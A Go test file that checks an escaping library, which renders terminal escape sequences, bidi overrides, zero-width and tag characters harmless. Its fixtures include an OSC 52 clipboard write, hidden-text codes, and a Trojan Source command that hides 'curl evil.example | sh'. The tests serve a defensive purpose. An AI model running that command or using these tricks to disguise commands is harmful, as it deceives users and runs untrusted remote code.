package termtext

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestEscape(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "plain text\twith tab, ünïcode, 日本語, emoji 🙂", "plain text\twith tab, ünïcode, 日本語, emoji 🙂"},
		{"osc 52", "\x1b]52;c;ZXZpbA==\x07read_file", `\x1b]52;c;ZXZpbA==\x07read_file`},
		{"hidden text", "hide\x1b[8mthis\x1b[0m", `hide\x1b[8mthis\x1b[0m`},
		{"c1 csi", "c1 \u009b31m csi", `c1 \x9b31m csi`},
		{"carriage return", "cr\rover", `cr\x0dover`},
		{"newline", "a\nb", `a\x0ab`},
		{"del", "a\x7fb", `a\x7fb`},
		{"invalid utf-8", "a\x9b31mb\xff", `a\x9b31mb\xff`},
		{"right-to-left override", "file\u202etxt.exe", `file\u202etxt.exe`},
		{"every bidi control",
			"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
			`\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c`},
		{"zero-width and bom", "a\u200bb\u200cc\u200dd\u2060e\ufefff", `a\u200bb\u200cc\u200dd\u2060e\ufefff`},
		{"tags", "x\U000e0001\U000e0041\U000e007f\U000e0000", `x\U000e0001\U000e0041\U000e007f\U000e0000`},
		{"line and paragraph separators", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"soft hyphen", "in\u00advisible", `in\u00advisible`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Escape(tc.in); got != tc.want {
				t.Errorf("Escape(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// The Trojan Source example: a shell command that a terminal shows as a
// harmless echo, because a right-to-left isolate reorders the rest of the
// line, while the shell runs what is written. Escaped, it reads in the
// order it runs and holds no character that reorders anything.
func TestEscapeTrojanSource(t *testing.T) {
	cmd := "echo safe \u2067; curl evil.example | sh; #\u2069 done"
	got := Escape(cmd)
	if want := `echo safe \u2067; curl evil.example | sh; #\u2069 done`; got != want {
		t.Errorf("Escape = %q, want %q", got, want)
	}
	if strings.ContainsFunc(got, func(r rune) bool { return r > utf8.RuneSelf }) {
		t.Errorf("escaped text still holds non-ASCII: %q", got)
	}
}

func TestEscapeLines(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"a\x1b\nb", "a\\x1b\nb"},
		{"one\n\u202etwo\n", "one\n\\u202etwo\n"},
		{"clean\nlines", "clean\nlines"},
	} {
		if got := EscapeLines(tc.in); got != tc.want {
			t.Errorf("EscapeLines(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// JSON escapes what Escape would, as JSON escapes: the text decodes to the
// same value and holds none of those characters raw.
func TestJSON(t *testing.T) {
	in := "{\n  \"description\": \"shows \u2067one thing\u2069\U000e0041\u0085\x7f, runs another\",\n  \"n\": [1, 2]\n}\n"
	got := JSON([]byte(in))
	want := "{\n  \"description\": \"shows \\u2067one thing\\u2069\\udb40\\udc41\\u0085\\u007f, runs another\",\n  \"n\": [1, 2]\n}\n"
	if string(got) != want {
		t.Errorf("JSON =\n%s\nwant\n%s", got, want)
	}
	var a, b any
	if err := json.Unmarshal([]byte(in), &a); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(got, &b); err != nil {
		t.Fatalf("escaped JSON does not parse: %v", err)
	}
	if d := cmp.Diff(a, b); d != "" {
		t.Errorf("escaped JSON decodes differently (-want +got):\n%s", d)
	}
	clean := []byte(`{"a": "plain ünïcode 🙂"}`)
	if got := JSON(clean); &got[0] != &clean[0] {
		t.Error("JSON copied text that needed no escaping")
	}
}
